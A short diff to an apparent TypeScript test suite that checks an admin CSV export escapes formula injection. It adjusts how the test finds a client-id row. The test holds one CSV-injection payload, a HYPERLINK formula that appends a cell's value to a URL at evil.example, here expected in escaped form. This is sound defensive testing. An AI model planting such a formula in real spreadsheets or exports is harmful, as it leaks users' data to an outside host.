@@ -45,7 +45,9 @@ describe('CSV exports never run formulas (OWASP CSV Injection)', () => {
         .get('/monitor/exposure.csv')
         .set('Authorization', `Bearer ${gh.config.ADMIN_TOKEN}`)
         .expect(200);
-      const line = csv.text.split('\n').find((l) => l.startsWith(`"${reg.body.client_id as string}"`));
+      // A random client id may itself start with "-" (base64url), which the export prefixes with an apostrophe.
+      const id = reg.body.client_id as string;
+      const line = csv.text.split('\n').find((l) => l.startsWith(`"${id}"`) || l.startsWith(`"'${id}"`));
       expect(line).toBeDefined();
       expect(line!.split(',')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&B3`);
       expect(csv.text).not.toMatch(/(^|,)=/m);
